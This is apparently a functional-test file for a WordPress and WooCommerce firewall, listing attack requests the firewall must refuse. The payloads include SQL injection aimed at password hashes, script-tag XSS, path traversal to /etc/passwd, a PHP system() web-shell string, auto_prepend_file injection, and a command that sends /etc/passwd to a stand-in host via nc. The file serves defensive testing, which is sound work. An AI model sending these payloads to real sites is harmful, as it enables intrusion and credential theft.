"""Attacks, as requests by a guest. Each has to be refused where a site's firewall is set to block."""

from __future__ import annotations

from typing import Any

from tests.functional.ordinary import Ask

SCRIPT = "%3Cscript%3Ealert(1)%3C/script%3E"
_TAG = "<script>alert(1)</script>"

_COOKIE = {"Cookie": f"wordpress_logged_in_{'0' * 32}=x"}


def _attack(what: str, path: str, method: str = "GET", **rest: Any) -> Ask:
    return Ask(what, method, path, person=False, **rest)


ATTACKS = [
    _attack("SQL in an argument", "/?id=1%27%20UNION%20SELECT%20user_pass%20FROM%20wp_users--%20-"),
    _attack("a script in an argument", f"/?q={SCRIPT}"),
    _attack("a way up in an argument", "/?file=../../../../etc/passwd"),
    _attack("PHP in a form", "/", "POST", data={"x": "<?php system($_GET['c']); ?>"}),
    _attack("a scanner", "/?x=1", headers={"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    _attack("a shell's command", "/?cmd=;cat%20/etc/passwd|nc%20192.0.2.1%2080"),
    _attack("to a script", f"/wp-login.php?x={SCRIPT}"),
    _attack("to the API", "/wp-json/wp/v2/posts?search=1%27%20OR%20%271%27=%271"),
    _attack("to a plugin's action", "/wp-admin/admin-ajax.php", "POST", data={"action": "nopriv", "x": "<?php eval($x);"}),
    _attack("JSON to a plugin's route", "/wp-json/plugin/v1/thing", "POST", json={"a": [{"b": "1' OR 1=1-- -"}]}),
    # What is let through for wp-admin's sake must not be had by others.
    _attack("a form to the editor's route", "/wp-json/wp/v2/posts", "POST", data={"x": _TAG}),
    _attack("a query to the editor's route", f"/wp-json/wp/v2/posts?x={SCRIPT}", "POST", json={"content": "x"}),
    _attack("a comment over the API", "/wp-json/wp/v2/comments", "POST", json={"content": _TAG}),
    _attack("the same in capitals", "/wp-json/wp/v2/Comments", "POST", json={"content": _TAG}),
    _attack("GraphQL", "/wp-json/wc/v4/graphql", "POST", json={"query": _TAG}),
    _attack("a cookie at a plugin's action", "/wp-admin/admin-ajax.php", "POST",
            data={"action": "nopriv", "x": _TAG},
            headers={"Cookie": f"wordpress_logged_in_{'0' * 32}=x"}),
    _attack("a cookie at a page", "/", "POST", data={"wp_customize": "on", "x": _TAG},
            headers={"Cookie": f"wordpress_logged_in_{'0' * 32}=x"}),
    _attack("wp-admin without a cookie", "/wp-admin/options.php", "POST", data={"x": _TAG}),
    _attack("an action twice", "/wp-admin/admin-ajax.php?action=nopriv", "POST",
            data={"action": "heartbeat", "x": _TAG},
            headers={"Cookie": f"wordpress_logged_in_{'0' * 32}=x"}),
    _attack("a search in a plugin's page", f"/wp-admin/admin.php?page=x&s={SCRIPT}", headers=_COOKIE),
    _attack("a search without a cookie", f"/wp-admin/users.php?s={SCRIPT}"),
    _attack("an argument beside a search", f"/wp-admin/edit.php?s=x&y={SCRIPT}", headers=_COOKIE),
    _attack("an argument beside the API's search", f"/wp-json/wp/v2/search?search=x&y={SCRIPT}", headers=_COOKIE),
    _attack("a search of the API without a cookie", f"/wp-json/wp/v2/search?search={SCRIPT}"),
    _attack("a referrer at a page", "/?x=1", headers={**_COOKIE, "Referer": f"http://a/wp-admin/?s={SCRIPT}"}),
    _attack("a referrer at a plugin's action", "/wp-admin/admin-ajax.php?action=nopriv",
            headers={**_COOKIE, "Referer": f"http://a/wp-admin/?s={SCRIPT}"}),
    _attack("a field beside a file's words", "/wp-json/wp/v2/media", "POST", data={"x": _TAG}, headers=_COOKIE),
    _attack("a form to a comment of the API", "/wp-json/wp/v2/comments", "POST", data={"content": _TAG},
            headers=_COOKIE),
    _attack("a stranger's comment", "/wp-comments-post.php", "POST", data={"comment": _TAG, "comment_post_ID": "1"}),
    _attack("a comment's other field", "/wp-comments-post.php", "POST", data={"comment": "x", "rating": _TAG},
            headers=_COOKIE),
    # The same of WooCommerce's own.
    _attack("JSON to the shop's desk without a cookie", "/wp-json/wc-admin/onboarding/profile", "POST", json={"x": _TAG}),
    _attack("an app's login at the shop's desk", "/wp-json/wc-admin/Mobile-app/qr-login-exchange", "POST", json={"token": _TAG}, headers=_COOKIE),
    _attack("a form to the shop's desk", "/wp-json/wc-admin/onboarding/profile", "POST", data={"x": _TAG}, headers=_COOKIE),
    _attack("a query to the shop's desk", f"/wp-json/wc-admin/onboarding/profile?x={SCRIPT}", "POST", json={"x": "y"}, headers=_COOKIE),
    _attack("the shop's mail without a cookie", "/wp-json/wc-admin-email/settings/email/save-transient", "POST", json={"value": _TAG}),
    _attack("a guest's order", "/wp-json/wc/store/v1/checkout", "POST", json={"customer_note": _TAG}, headers=_COOKIE),
    _attack("a search of orders without a cookie", f"/wp-admin/admin.php?page=wc-orders&s={SCRIPT}"),
    _attack("an argument beside a search of orders", f"/wp-admin/admin.php?page=wc-orders&s=x&y={SCRIPT}", headers=_COOKIE),
    _attack("two pages, one of orders", f"/wp-admin/admin.php?page=wc-orders&page=x&s={SCRIPT}", headers=_COOKIE),
    _attack("the shop's action without a cookie", "/wp-admin/admin-ajax.php", "POST",
            data={"action": "woocommerce_add_order_note", "note": _TAG}),
    _attack("the shop's action for everybody", "/wp-admin/admin-ajax.php", "POST",
            data={"action": "woocommerce_apply_coupon", "coupon_code": _TAG}, headers=_COOKIE),
    _attack("the shop's action twice", "/wp-admin/admin-ajax.php?action=nopriv", "POST",
            data={"action": "woocommerce_add_order_note", "note": _TAG}, headers=_COOKIE),
    _attack("products looked for without a cookie", f"/wp-admin/admin-ajax.php?action=woocommerce_json_search_products&term={SCRIPT}"),
    _attack("an argument beside products looked for",
            f"/wp-admin/admin-ajax.php?action=woocommerce_json_search_products&term=x&y={SCRIPT}", headers=_COOKIE),
    _attack("a plugin's search like the shop's", f"/wp-admin/admin-ajax.php?action=woocommerce_json_search_x&term={SCRIPT}", headers=_COOKIE),
    _attack("a referrer at a plugin's route", "/wp-json/plugin/v1/thing",
            headers={**_COOKIE, "Referer": f"http://a/wp-admin/?s={SCRIPT}"}),
    _attack("a referrer at the API without a cookie", "/wp-json/wp/v2/users/me", headers={"Referer": f"http://a/wp-admin/?s={SCRIPT}"}),
    _attack("a script in the checkout's form so far", "/?wc-ajax=update_order_review", "POST", data={"post_data": f"a={_TAG}&b=c"}),
    _attack("PHP's settings beside it", "/?wc-ajax=update_order_review", "POST", data={"post_data": "a=b", "x": "auto_prepend_file=/x"}),
    _attack("PHP's settings in the checkout itself", "/?wc-ajax=checkout", "POST", data={"post_data": "auto_prepend_file=/x"}),
    # What cannot be read is not passed on, for PHP perhaps reads it.
    _attack("JSON that is none", "/wp-json/plugin/v1/thing", "POST", content=b'{"a": "b"', headers={"Content-Type": "application/json"}),
    _attack("a form without its end", "/", "POST", content=b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n<script>',
            headers={"Content-Type": "multipart/form-data; boundary=x"}),
]  # fmt: skip
